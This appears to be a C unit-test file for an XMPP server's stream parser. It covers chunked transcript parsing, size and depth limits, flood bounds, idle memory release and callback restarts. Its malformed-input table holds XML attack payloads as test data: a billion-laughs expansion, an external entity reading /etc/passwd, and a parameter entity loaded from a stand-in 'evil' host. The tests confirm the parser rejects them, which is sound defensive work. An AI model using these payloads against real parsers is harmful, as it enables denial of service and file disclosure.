/* tests/unit/test_xmlstream.c: the stream parser. A c2s session transcript
 * fed whole, byte by byte, split at every byte boundary and in random
 * chunks must give the same events; restricted XML, malformed input and
 * limit breaches give the RFC 6120 §4.9.3 condition without unbounded
 * memory; restart and free from callbacks; the idle release. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <CUnit/CUnit.h>

#include <palaver/stanza.h>
#include <palaver/xml.h>

#include "xmlstream.h"

#define STREAMS_DECL "xmlns:stream='" PV_NS_STREAMS "'"
#define HDR                                                               \
    "<?xml version='1.0'?><stream:stream xmlns='jabber:client' "          \
    STREAMS_DECL " to='example.com' version='1.0'>"

/* --- a recording client of the parser --------------------------------- */

typedef struct rec_s {
    pv_buf_t log;
    pv_xmlstream_t *xs;
    int n_events;       /* opens, stanzas, closes */
    int n_stanzas;
    int n_errors;
    const char *error;
    int restart_auth;   /* restart after <starttls/> and <auth/>, as a
                         * server does after <proceed/> and <success/> */
    int free_in;        /* 1: free in the stanza callback, 2: in error */
    int reenter;        /* try to feed from the stanza callback */
} rec_t;

static const char *
nz(const char *s)
{
    return s != NULL ? s : "-";
}

static void
r_open(void *ud, const pv_stream_header_t *h)
{
    rec_t *r = ud;

    r->n_events++;
    pv_buf_printf(&r->log, "open to=%s from=%s version=%s lang=%s id=%s "
                  "ns=%s\n", nz(h->to), nz(h->from), nz(h->version),
                  nz(h->lang), nz(h->id), nz(h->content_ns));
}

static void
r_stanza(void *ud, pv_stanza_t *st)
{
    rec_t *r = ud;

    r->n_events++;
    r->n_stanzas++;
    pv_buf_printf(&r->log, "stanza kind=%d type=%s id=%s ", (int)st->kind,
                  nz(st->type), nz(st->id));
    /* NULL stream namespace: show every resolved namespace */
    pv_node_serialize(st->root, &r->log, NULL);
    pv_buf_puts(&r->log, "\n");
    if (r->restart_auth && (strcmp(st->root->name, "starttls") == 0
                            || strcmp(st->root->name, "auth") == 0))
        pv_xmlstream_restart(r->xs);
    if (r->reenter) {
        CU_ASSERT_EQUAL(pv_xmlstream_feed(r->xs, "<a/>", 4, NULL), PV_ERROR);
        CU_ASSERT(pv_xmlstream_memory(r->xs) > PV_XMLSTREAM_EXPAT_COST);
    }
    if (r->free_in == 1) {
        pv_xmlstream_free(r->xs);
        r->xs = NULL;
    }
    pv_stanza_unref(st);
}

static void
r_close(void *ud)
{
    rec_t *r = ud;

    r->n_events++;
    pv_buf_puts(&r->log, "close\n");
}

static void
r_error(void *ud, const char *cond, const char *text)
{
    rec_t *r = ud;

    CU_ASSERT_PTR_NOT_NULL(text);
    r->n_errors++;
    r->error = cond;
    pv_buf_printf(&r->log, "error %s\n", cond);
    if (r->free_in == 2) {
        pv_xmlstream_free(r->xs);
        r->xs = NULL;
    }
}

static const pv_xmlstream_cb_t rec_cb = {
    .stream_open = r_open,
    .stanza = r_stanza,
    .stream_close = r_close,
    .error = r_error,
};

static void
rec_init(rec_t *r, const pv_xmlstream_limits_t *lim)
{
    memset(r, 0, sizeof(*r));
    r->xs = pv_xmlstream_new(&rec_cb, r, lim);
}

static void
rec_fini(rec_t *r)
{
    pv_xmlstream_free(r->xs);
    pv_buf_free(&r->log);
}

/* Chunking strategies: whole, fixed size, split once at k, random. */
typedef struct chunker_s {
    size_t fixed;       /* 0: whole input */
    size_t split;       /* when non-zero: first chunk k, then the rest */
    uint32_t rng;       /* when non-zero: random 1..max_rand */
    size_t max_rand;
} chunker_t;

static size_t
next_chunk(chunker_t *c, size_t pos, size_t left)
{
    size_t n = left;

    if (c->split != 0)
        n = pos < c->split ? c->split - pos : left;
    else if (c->rng != 0) {
        c->rng = c->rng * 1103515245u + 12345u;
        n = 1 + (c->rng >> 16) % c->max_rand;
    } else if (c->fixed != 0)
        n = c->fixed;
    return n < left ? n : left;
}

/* Feeds data as the chunker says, following PV_AGAIN as a connection
 * would (re-feed what was not consumed). With check_idle, every feed that
 * completed an event and ended there must leave the parser released.
 * Returns the last feed's result. */
static int
run(rec_t *r, const char *data, size_t len, chunker_t *c, int check_idle)
{
    size_t pos = 0, n, used;
    int rc = PV_OK, before;

    while (pos < len && r->xs != NULL) {
        n = next_chunk(c, pos, len - pos);
        before = r->n_events;
        rc = pv_xmlstream_feed(r->xs, data + pos, n, &used);
        if (rc == PV_ERROR)
            break;
        if (rc == PV_AGAIN) {
            CU_ASSERT(used <= n);
            pos += used;
            continue;
        }
        CU_ASSERT_EQUAL(used, n);
        pos += n;
        if (check_idle && r->n_events > before
            && r->log.data[r->log.len - 2] != 'e')       /* not "close" */
            CU_ASSERT(pv_xmlstream_memory(r->xs) < 2048);
    }
    if (rc == PV_ERROR && r->xs != NULL) {
        /* after an error: nothing more, ever */
        size_t loglen = r->log.len;
        CU_ASSERT_EQUAL(pv_xmlstream_feed(r->xs, "<a/>", 4, NULL), PV_ERROR);
        CU_ASSERT_EQUAL(r->log.len, loglen);
    }
    return rc;
}

/* --- the c2s transcript ---------------------------------------------- */

#define C2S_OPEN                                                          \
    "<stream:stream to='example.com' xmlns='jabber:client' "              \
    STREAMS_DECL " version='1.0' xml:lang='en'>"

static const char transcript[] =
    "<?xml version='1.0'?>" C2S_OPEN "\n"
    "<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>"
    /* the TLS handshake happens here; then the stream restarts */
    "<?xml version='1.0'?>" C2S_OPEN
    "<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='PLAIN'>"
    "AGp1bGlldAByMG0zMG0wbWVv</auth>"
    "<stream:stream " STREAMS_DECL " xmlns='jabber:client' "
    "to='example.com' version='1.0'>\r\n"
    "<iq type='set' id='bind_1'><bind xmlns='urn:ietf:params:xml:ns:"
    "xmpp-bind'><resource>balcony</resource></bind></iq>"
    "<iq type='set' id='sess'><session xmlns='urn:ietf:params:xml:ns:"
    "xmpp-session'/></iq>\n"
    "<presence><show>chat</show><status xml:lang='it'>Wherefore &amp; "
    "why &#x263A; &lt;3</status><c xmlns='http://jabber.org/protocol/caps'"
    " hash='sha-1' node='http://psi-im.org' ver='q07IKJEyjvHSyhy//CH0CxmKi8w"
    "='/></presence>  \n\t "
    "<message to='romeo@example.net' type='chat' id='m1' xml:lang='en'>"
    "<body>Art thou not Romeo, and a Montague? <![CDATA[<b>bold</b> & "
    "more]]> \xe2\x98\xba\xf0\x9f\x98\x80</body>"
    "<active xmlns='http://jabber.org/protocol/chatstates'/>"
    "<x xmlns='jabber:x:data' type='form'><field var='a' "
    "type='text-single'><value>1</value></field></x></message>"
    "<iq type='get' id='r1'><query xmlns='jabber:iq:roster' "
    "xmlns:foo='urn:foo' foo:bar='baz'/></iq>"
    "<message to='juliet@example.com' type='normal'><body>multi\r\nline"
    "\ttext</body><thread>t&apos;1&quot;</thread></message>"
    "<iq type='get' id='p'><p:ping xmlns:p='urn:xmpp:ping'/></iq>"
    "</stream:stream>";

static const char transcript_log[] =
    "open to=example.com from=- version=1.0 lang=en id=- ns=jabber:client\n"
    "stanza kind=3 type=- id=- "
    "<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>\n"
    "open to=example.com from=- version=1.0 lang=en id=- ns=jabber:client\n"
    "stanza kind=3 type=- id=- "
    "<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='PLAIN'>"
    "AGp1bGlldAByMG0zMG0wbWVv</auth>\n"
    "open to=example.com from=- version=1.0 lang=- id=- ns=jabber:client\n"
    "stanza kind=2 type=set id=bind_1 "
    "<iq xmlns='jabber:client' type='set' id='bind_1'><bind xmlns='urn:"
    "ietf:params:xml:ns:xmpp-bind'><resource>balcony</resource></bind>"
    "</iq>\n"
    "stanza kind=2 type=set id=sess "
    "<iq xmlns='jabber:client' type='set' id='sess'><session xmlns='urn:"
    "ietf:params:xml:ns:xmpp-session'/></iq>\n"
    "stanza kind=1 type=- id=- "
    "<presence xmlns='jabber:client'><show>chat</show><status "
    "xml:lang='it'>Wherefore &amp; why \xe2\x98\xba &lt;3</status><c "
    "xmlns='http://jabber.org/protocol/caps' hash='sha-1' "
    "node='http://psi-im.org' ver='q07IKJEyjvHSyhy//CH0CxmKi8w='/>"
    "</presence>\n"
    "stanza kind=0 type=chat id=m1 "
    "<message xmlns='jabber:client' to='romeo@example.net' type='chat' "
    "id='m1' xml:lang='en'><body>Art thou not Romeo, and a Montague? "
    "&lt;b&gt;bold&lt;/b&gt; &amp; more \xe2\x98\xba\xf0\x9f\x98\x80</body>"
    "<active xmlns='http://jabber.org/protocol/chatstates'/>"
    "<x xmlns='jabber:x:data' type='form'><field var='a' "
    "type='text-single'><value>1</value></field></x></message>\n"
    "stanza kind=2 type=get id=r1 "
    "<iq xmlns='jabber:client' type='get' id='r1'><query "
    "xmlns='jabber:iq:roster' xmlns:ns0='urn:foo' ns0:bar='baz'/></iq>\n"
    "stanza kind=0 type=normal id=- "
    "<message xmlns='jabber:client' to='juliet@example.com' "
    "type='normal'><body>multi\nline\ttext</body><thread>t'1\"</thread>"
    "</message>\n"
    "stanza kind=2 type=get id=p "
    "<iq xmlns='jabber:client' type='get' id='p'><ping "
    "xmlns='urn:xmpp:ping'/></iq>\n"
    "close\n";

static void
transcript_run(chunker_t *c, int check_idle)
{
    rec_t r;

    rec_init(&r, NULL);
    r.restart_auth = 1;
    CU_ASSERT_EQUAL(run(&r, transcript, sizeof(transcript) - 1, c,
                        check_idle), PV_OK);
    CU_ASSERT_EQUAL(r.n_errors, 0);
    CU_ASSERT_STRING_EQUAL(r.log.data, transcript_log);
    rec_fini(&r);
}

static void
test_transcript_whole(void)
{
    chunker_t c = {0};

    transcript_run(&c, 0);
}

static void
test_transcript_bytewise(void)
{
    chunker_t c = { .fixed = 1 };

    /* also checks that every event is delivered on the byte that
     * completes it, and that the parser is released right then */
    transcript_run(&c, 1);
}

static void
test_transcript_every_split(void)
{
    size_t k;

    for (k = 1; k < sizeof(transcript) - 1; k++) {
        chunker_t c = { .split = k };
        transcript_run(&c, 0);
    }
}

static void
test_transcript_random(void)
{
    uint32_t seed;

    for (seed = 1; seed <= 300; seed++) {
        chunker_t c = { .rng = seed, .max_rand = 1 + seed % 97 };
        transcript_run(&c, 0);
    }
}

/* --- hostile and malformed input ---------------------------------- */

#define LOL "<!ENTITY lol 'lol'>"
#define LOLN(n, m)                                                        \
    "<!ENTITY lol" #n " '&lol" #m ";&lol" #m ";&lol" #m ";&lol" #m        \
    ";&lol" #m ";&lol" #m ";&lol" #m ";&lol" #m ";&lol" #m ";&lol" #m ";'>"

static const struct {
    const char *name;
    const char *input;
    const char *cond;       /* NULL: no error */
    int n_stanzas;          /* delivered before the error */
} bad_cases[] = {
    { "doctype", "<?xml version='1.0'?><!DOCTYPE stream:stream>" HDR,
      "restricted-xml", 0 },
    { "billion laughs",
      "<?xml version='1.0'?><!DOCTYPE lolz [" LOL "<!ENTITY lol1 '&lol;&lol;"
      "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;'>" LOLN(2, 1) LOLN(3, 2)
      LOLN(4, 3) LOLN(5, 4) LOLN(6, 5) LOLN(7, 6) LOLN(8, 7) LOLN(9, 8)
      "]><stream:stream xmlns='jabber:client' " STREAMS_DECL ">"
      "<message><body>&lol9;</body></message>", "restricted-xml", 0 },
    { "external entity",
      "<!DOCTYPE s [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>"
      "<stream:stream " STREAMS_DECL "><a>&xxe;</a>", "restricted-xml", 0 },
    { "parameter entity",
      "<!DOCTYPE s [<!ENTITY % p SYSTEM 'http://evil/x.dtd'> %p;]>" HDR,
      "restricted-xml", 0 },
    { "pi in stream", HDR "<message/><?php echo 1; ?>", "restricted-xml",
      1 },
    { "pi before header", "<?foo bar?>" HDR, "restricted-xml", 0 },
    { "pi in stanza", HDR "<message><?x?></message>", "restricted-xml", 0 },
    { "comment in stanza", HDR "<message><!-- c --></message>",
      "restricted-xml", 0 },
    { "comment between stanzas", HDR "<presence/>\n<!-- c -->",
      "restricted-xml", 1 },
    { "comment before header", "<!-- hi -->" HDR, "restricted-xml", 0 },
    { "doctype inside stream", HDR "<!DOCTYPE x>", "restricted-xml", 0 },
    { "doctype inside stanza", HDR "<message><!DOCTYPE x></message>",
      "restricted-xml", 0 },
    { "entity declaration inside stream", HDR "<!ENTITY a 'b'>",
      "restricted-xml", 0 },
    { "undefined entity", HDR "<message><body>&lol;</body></message>",
      "not-well-formed", 0 },
    { "mismatched tags", HDR "<message><body></message>",
      "not-well-formed", 0 },
    { "mismatched stream end", HDR "<message/></stream>",
      "not-well-formed", 1 },
    { "invalid utf-8 byte", HDR "<message><body>\xff</body></message>",
      "not-well-formed", 0 },
    { "overlong utf-8", HDR "<message><body>\xc0\xaf</body></message>",
      "not-well-formed", 0 },
    { "utf-8 surrogate", HDR "<message><body>\xed\xa0\x80</body></message>",
      "not-well-formed", 0 },
    { "truncated utf-8", HDR "<message><body>\xe2\x98</body></message>",
      "not-well-formed", 0 },
    { "invalid utf-8 in name", HDR "<mess\xc3\x28ge/>",
      "not-well-formed", 0 },
    { "nul character reference", HDR "<message>&#0;</message>",
      "not-well-formed", 0 },
    { "control character", HDR "<message>\x01</message>",
      "not-well-formed", 0 },
    { "unbound prefix", HDR "<foo:bar/>", "not-well-formed", 0 },
    { "duplicate attribute", HDR "<message to='a' to='b'/>",
      "not-well-formed", 0 },
    { "late xml declaration", HDR "<presence/><?xml version='1.0'?>",
      "not-well-formed", 1 },
    { "junk after close", HDR "</stream:stream><message/>",
      "not-well-formed", 0 },
    { "wrong stream namespace",
      "<stream:stream xmlns='jabber:client' xmlns:stream='http://etherx."
      "jabber.org/streamz'>", "invalid-namespace", 0 },
    { "wrong root name",
      "<stream:foo xmlns='jabber:client' " STREAMS_DECL ">",
      "invalid-namespace", 0 },
    { "root without namespace", "<stream>", "invalid-namespace", 0 },
    { "root in content namespace",
      "<stream xmlns='jabber:client'><message/></stream>",
      "invalid-namespace", 0 },
    { "text between stanzas", HDR "<presence/>hello", "bad-format", 1 },
    { "cdata between stanzas", HDR "<![CDATA[x]]>", "bad-format", 0 },
    { "whitespace and an encoding declaration are fine",
      "<?xml version='1.0' encoding='ISO-8859-1'?><stream:stream "
      "xmlns='jabber:client' " STREAMS_DECL "> \n<message>\xc3\xa9</message>"
      "\r\n </stream:stream>\n", NULL, 1 },
};

static void
check_bad(const char *name, const char *input, size_t len,
          const pv_xmlstream_limits_t *lim, const char *cond, int n_stanzas)
{
    static const chunker_t chunkers[] = {
        { 0, 0, 0, 0 }, { 1, 0, 0, 0 }, { 7, 0, 0, 0 }, { 0, 0, 99, 40 },
    };
    size_t i;
    rec_t r;
    int rc;

    for (i = 0; i < PV_COUNTOF(chunkers); i++) {
        chunker_t c = chunkers[i];

        rec_init(&r, lim);
        rc = run(&r, input, len, &c, 0);
        if (cond == NULL) {
            CU_ASSERT_EQUAL(rc, PV_OK);
            CU_ASSERT_EQUAL(r.n_errors, 0);
        } else {
            CU_ASSERT_EQUAL(rc, PV_ERROR);
            CU_ASSERT_EQUAL(r.n_errors, 1);
            if (r.error == NULL || strcmp(r.error, cond) != 0) {
                fprintf(stderr, "\n%s (chunker %zu): got %s, want %s\n",
                        name, i, nz(r.error), cond);
                CU_FAIL("wrong condition");
            }
        }
        CU_ASSERT_EQUAL(r.n_stanzas, n_stanzas);
        rec_fini(&r);
    }
}

#define CHECK_BAD_STR(name, s, lim, cond, n)                              \
    check_bad((name), (s), strlen(s), (lim), (cond), (n))

static void
test_bad_input(void)
{
    size_t i;

    for (i = 0; i < PV_COUNTOF(bad_cases); i++)
        check_bad(bad_cases[i].name, bad_cases[i].input,
                  strlen(bad_cases[i].input), NULL, bad_cases[i].cond,
                  bad_cases[i].n_stanzas);
}

/* --- limits ---------------------------------------------------------- */

static void
repeat(pv_buf_t *b, const char *s, size_t n)
{
    while (n-- > 0)
        pv_buf_puts(b, s);
}

static void
test_limits(void)
{
    pv_xmlstream_limits_t lim = { 256, 8, 4 };
    pv_buf_t b = {0};

    /* depth: the stanza element is level 1 */
    pv_buf_puts(&b, HDR "<message>");
    repeat(&b, "<a>", 7);
    repeat(&b, "</a>", 7);
    pv_buf_puts(&b, "</message>");
    check_bad("depth 8", b.data, b.len, &lim, NULL, 1);
    pv_buf_reset(&b);
    pv_buf_puts(&b, HDR "<message>");
    repeat(&b, "<a>", 8);
    check_bad("depth 9", b.data, b.len, &lim, "policy-violation", 0);
    pv_buf_reset(&b);
    pv_buf_puts(&b, HDR "<message>");
    repeat(&b, "<a>", 100000);
    check_bad("depth 100000", b.data, b.len, NULL, "policy-violation", 0);

    /* attributes, namespace declarations count too; the header has 4 */
    CHECK_BAD_STR("4 attributes", HDR "<message a='1' b='2' c='3' d='4'/>",
                  &lim, NULL, 1);
    CHECK_BAD_STR("5 attributes",
                  HDR "<message a='1' b='2' c='3' d='4' e='5'/>", &lim,
                  "policy-violation", 0);
    CHECK_BAD_STR("5 declarations",
                  HDR "<message><x xmlns:a='1' xmlns:b='2' xmlns:c='3' "
                  "xmlns:d='4' xmlns='5'/></message>",
                  &lim, "policy-violation", 0);
    pv_buf_reset(&b);
    pv_buf_puts(&b, HDR "<message");
    {
        int i;
        for (i = 0; i < 1000; i++)
            pv_buf_printf(&b, " a%d='%d'", i, i);
    }
    pv_buf_puts(&b, "/>");
    check_bad("1000 attributes", b.data, b.len, NULL, "policy-violation", 0);

    /* stanza size: 256 bytes from the start tag on */
    pv_buf_reset(&b);
    pv_buf_puts(&b, HDR "<message><body>");
    repeat(&b, "x", 256 - 9 - 6 - 7 - 10);
    pv_buf_puts(&b, "</body></message><message><body>");
    repeat(&b, "y", 256 - 9 - 6 - 7 - 10 + 1);
    pv_buf_puts(&b, "</body></message>");
    check_bad("stanza size", b.data, b.len, &lim, "policy-violation", 1);
    pv_buf_free(&b);
}

/* Feeds prefix, then fill_byte repeated up to total bytes in chunks of
 * chunk, and checks that the error comes early and that memory stays
 * bounded all the while. */
static void
check_flood(const char *prefix, char fill_byte, size_t total, size_t chunk,
            size_t max, const char *cond, size_t mem_bound)
{
    pv_xmlstream_limits_t lim = { max, 0, 0 };
    char *fill = malloc(chunk);
    size_t fed = 0, peak = 0, m;
    rec_t r;
    int rc;

    memset(fill, fill_byte, chunk);
    rec_init(&r, &lim);
    CU_ASSERT_EQUAL(pv_xmlstream_feed(r.xs, prefix, strlen(prefix), NULL),
                    PV_OK);
    while (fed < total) {
        rc = pv_xmlstream_feed(r.xs, fill, chunk, NULL);
        fed += chunk;
        m = pv_xmlstream_memory(r.xs);
        if (m > peak)
            peak = m;
        if (rc != PV_OK)
            break;
    }
    if (cond != NULL) {
        CU_ASSERT_STRING_EQUAL(nz(r.error), cond);
        CU_ASSERT(fed <= max + 2 * 4096 + chunk);
    } else {
        CU_ASSERT_EQUAL(r.n_errors, 0);
    }
    CU_ASSERT(peak <= mem_bound);
    rec_fini(&r);
    free(fill);
}

static void
test_floods(void)
{
    size_t max = 64 * 1024, ten_mb = 10 * 1024 * 1024;

    /* a text node that never ends */
    check_flood(HDR "<message><body>", 'x', ten_mb, 1000, max,
                "policy-violation", 2 * max + 16384);
    /* the same one byte at a time (each byte is an expat event) */
    check_flood(HDR "<message><body>", 'x', 2 * max, 1, max,
                "policy-violation", 2 * max + 16384);
    /* a giant attribute value: expat buffers the unfinished start tag */
    check_flood(HDR "<message to='", 'a', ten_mb, 1000, max,
                "policy-violation", max + 16384);
    /* a giant element name */
    check_flood(HDR "<m", 'a', ten_mb, 1000, max, "policy-violation",
                max + 16384);
    /* a stream header that never ends */
    check_flood("<stream:stream " STREAMS_DECL " to='", 'a', ten_mb, 1000,
                max, "policy-violation", max + 16384);
    /* whitespace before the header */
    check_flood("", ' ', ten_mb, 1000, max, "policy-violation",
                max + 16384);
    /* whitespace keepalives between stanzas are fine and cost nothing */
    check_flood(HDR "<presence/>", ' ', ten_mb, 1000, max, NULL, 2048);
    check_flood(HDR "<presence/>", '\n', 100000, 1, max, NULL, 2048);
}

/* --- idle release ---------------------------------------------------- */

#define FEED_OK(r, s)                                                     \
    CU_ASSERT_EQUAL(pv_xmlstream_feed((r)->xs, (s), strlen(s), NULL), PV_OK)

/* Lazy mode: the parser stays between stanzas until the owner calls
 * pv_xmlstream_idle(), and only a stream between stanzas gives it up. */
static void
test_lazy_release(void)
{
    rec_t r;

    rec_init(&r, NULL);
    pv_xmlstream_set_lazy(r.xs, 1);
    FEED_OK(&r, "<stream:stream xmlns='jabber:client' " STREAMS_DECL
                " to='example.com' version='1.0'>");
    FEED_OK(&r, "<message to='a@b'><body>one</body></message>");
    CU_ASSERT_EQUAL(r.n_stanzas, 1);
    CU_ASSERT(pv_xmlstream_memory(r.xs) > PV_XMLSTREAM_EXPAT_COST);
    pv_xmlstream_idle(r.xs);
    CU_ASSERT(pv_xmlstream_memory(r.xs) < 2048);
    /* half a stanza: idle must not drop what expat holds */
    FEED_OK(&r, "<message to='a@b'><bo");
    pv_xmlstream_idle(r.xs);
    CU_ASSERT(pv_xmlstream_memory(r.xs) > PV_XMLSTREAM_EXPAT_COST);
    FEED_OK(&r, "dy>two</body></message>");
    CU_ASSERT_EQUAL(r.n_stanzas, 2);
    pv_xmlstream_idle(r.xs);
    CU_ASSERT(pv_xmlstream_memory(r.xs) < 2048);
    FEED_OK(&r, "<presence/>");
    CU_ASSERT_EQUAL(r.n_stanzas, 3);
    rec_fini(&r);
}

static void
test_idle_release(void)
{
    rec_t r;
    size_t open_mem;

    rec_init(&r, NULL);
    CU_ASSERT(pv_xmlstream_memory(r.xs) < 512);     /* no parser yet */
    FEED_OK(&r, "<?xml version='1.0'?><stream:stream xmlns='jabber:client'");
    open_mem = pv_xmlstream_memory(r.xs);
    CU_ASSERT(open_mem > PV_XMLSTREAM_EXPAT_COST);  /* header unfinished */
    FEED_OK(&r, " " STREAMS_DECL " to='example.com' version='1.0'>\n");
    CU_ASSERT_EQUAL(r.n_events, 1);
    CU_ASSERT(pv_xmlstream_memory(r.xs) < 2048);

    FEED_OK(&r, "  \n");                            /* keepalive */
    CU_ASSERT(pv_xmlstream_memory(r.xs) < 2048);

    /* a stanza that starts in the next feed after the release */
    FEED_OK(&r, "<message to='a@b'><bo");
    CU_ASSERT(pv_xmlstream_memory(r.xs) > PV_XMLSTREAM_EXPAT_COST);
    CU_ASSERT_EQUAL(r.n_stanzas, 0);
    FEED_OK(&r, "dy>hi &amp; bye</body></message>\n ");
    CU_ASSERT_EQUAL(r.n_stanzas, 1);
    CU_ASSERT(pv_xmlstream_memory(r.xs) < 2048);

    /* a complete stanza followed by the start of another: kept */
    FEED_OK(&r, "<presence/><message");
    CU_ASSERT_EQUAL(r.n_stanzas, 2);
    CU_ASSERT(pv_xmlstream_memory(r.xs) > PV_XMLSTREAM_EXPAT_COST);
    FEED_OK(&r, " type='chat'/>");
    CU_ASSERT_EQUAL(r.n_stanzas, 3);
    CU_ASSERT(pv_xmlstream_memory(r.xs) < 2048);
    FEED_OK(&r, "</stream:stream>");
    CU_ASSERT_STRING_EQUAL(r.log.data,
        "open to=example.com from=- version=1.0 lang=- id=- "
        "ns=jabber:client\n"
        "stanza kind=0 type=- id=- <message xmlns='jabber:client' "
        "to='a@b'><body>hi &amp; bye</body></message>\n"
        "stanza kind=1 type=- id=- <presence xmlns='jabber:client'/>\n"
        "stanza kind=0 type=chat id=- <message xmlns='jabber:client' "
        "type='chat'/>\n"
        "close\n");
    rec_fini(&r);

    /* s2s: prefixes declared on the header survive the release */
    rec_init(&r, NULL);
    FEED_OK(&r, "<stream:stream xmlns='jabber:server' " STREAMS_DECL
            " xmlns:db='jabber:server:dialback' from='a.example' "
            "to='b.example' version='1.0' id='s1'>");
    CU_ASSERT(pv_xmlstream_memory(r.xs) < 2048);
    FEED_OK(&r, "<db:result from='a.example' to='b.example'>k3y</db:result>");
    CU_ASSERT(pv_xmlstream_memory(r.xs) < 2048);
    FEED_OK(&r, "<message from='x@a.example' to='y@b.example'/>");
    CU_ASSERT_STRING_EQUAL(r.log.data,
        "open to=b.example from=a.example version=1.0 lang=- id=s1 "
        "ns=jabber:server\n"
        "stanza kind=3 type=- id=- <result xmlns='jabber:server:dialback' "
        "from='a.example' to='b.example'>k3y</result>\n"
        "stanza kind=0 type=- id=- <message xmlns='jabber:server' "
        "from='x@a.example' to='y@b.example'/>\n");
    rec_fini(&r);
}

/* --- restart and free from callbacks ---------------------------------- */

static void
test_restart(void)
{
    static const char starttls[] =
        HDR "<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>";
    pv_buf_t b = {0};
    size_t used = 0;
    rec_t r;

    /* STARTTLS: the bytes after <starttls/> are TLS, not XML */
    rec_init(&r, NULL);
    r.restart_auth = 1;
    pv_buf_puts(&b, starttls);
    pv_buf_append(&b, "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 11);
    CU_ASSERT_EQUAL(pv_xmlstream_feed(r.xs, b.data, b.len, &used),
                    PV_AGAIN);
    CU_ASSERT_EQUAL(used, sizeof(starttls) - 1);
    CU_ASSERT_EQUAL(r.n_errors, 0);
    CU_ASSERT_EQUAL(r.n_stanzas, 1);
    CU_ASSERT(pv_xmlstream_memory(r.xs) < 1024);
    /* the new stream over TLS */
    FEED_OK(&r, HDR "<presence/>");
    CU_ASSERT_EQUAL(r.n_events, 4);
    CU_ASSERT_EQUAL(r.n_errors, 0);
    rec_fini(&r);

    /* restart from outside a callback */
    rec_init(&r, NULL);
    FEED_OK(&r, HDR "<message><body>half");
    pv_xmlstream_restart(r.xs);
    CU_ASSERT(pv_xmlstream_memory(r.xs) < 1024);
    FEED_OK(&r, HDR "<presence/>");
    CU_ASSERT_EQUAL(r.n_events, 3);
    CU_ASSERT_EQUAL(r.n_stanzas, 1);
    rec_fini(&r);

    /* free from the stanza callback: parsing stops, no use after free */
    rec_init(&r, NULL);
    r.free_in = 1;
    CU_ASSERT_EQUAL(pv_xmlstream_feed(r.xs, HDR "<a/><b/>",
                                      strlen(HDR) + 8, NULL), PV_AGAIN);
    CU_ASSERT_PTR_NULL(r.xs);
    CU_ASSERT_EQUAL(r.n_stanzas, 1);
    rec_fini(&r);

    /* free from the error callback, in a handler and after XML_Parse */
    rec_init(&r, NULL);
    r.free_in = 2;
    CU_ASSERT_EQUAL(pv_xmlstream_feed(r.xs, HDR "<!-- x -->",
                                      strlen(HDR) + 10, NULL), PV_ERROR);
    CU_ASSERT_PTR_NULL(r.xs);
    rec_fini(&r);
    rec_init(&r, NULL);
    r.free_in = 2;
    CU_ASSERT_EQUAL(pv_xmlstream_feed(r.xs, HDR "<a></b>",
                                      strlen(HDR) + 7, NULL), PV_ERROR);
    CU_ASSERT_PTR_NULL(r.xs);
    CU_ASSERT_EQUAL(r.n_errors, 1);
    rec_fini(&r);

    /* feeding from a callback is refused and changes nothing */
    rec_init(&r, NULL);
    r.reenter = 1;
    FEED_OK(&r, HDR "<presence/><message/>");
    CU_ASSERT_EQUAL(r.n_stanzas, 2);
    CU_ASSERT_EQUAL(r.n_errors, 0);
    rec_fini(&r);

    /* a restart clears an error */
    rec_init(&r, NULL);
    CU_ASSERT_EQUAL(pv_xmlstream_feed(r.xs, "<x/>", 4, NULL), PV_ERROR);
    pv_xmlstream_restart(r.xs);
    FEED_OK(&r, HDR "<presence/>");
    CU_ASSERT_EQUAL(r.n_stanzas, 1);
    rec_fini(&r);
    pv_buf_free(&b);
}

void
test_suite_xmlstream(void)
{
    CU_pSuite s = CU_add_suite("xmlstream", NULL, NULL);

    CU_add_test(s, "transcript fed whole", test_transcript_whole);
    CU_add_test(s, "transcript byte by byte", test_transcript_bytewise);
    CU_add_test(s, "transcript split at every byte",
                test_transcript_every_split);
    CU_add_test(s, "transcript in random chunks", test_transcript_random);
    CU_add_test(s, "restricted and malformed input", test_bad_input);
    CU_add_test(s, "depth, attribute and size limits", test_limits);
    CU_add_test(s, "floods stay bounded", test_floods);
    CU_add_test(s, "idle release", test_idle_release);
    CU_add_test(s, "lazy release", test_lazy_release);
    CU_add_test(s, "restart and free from callbacks", test_restart);
}
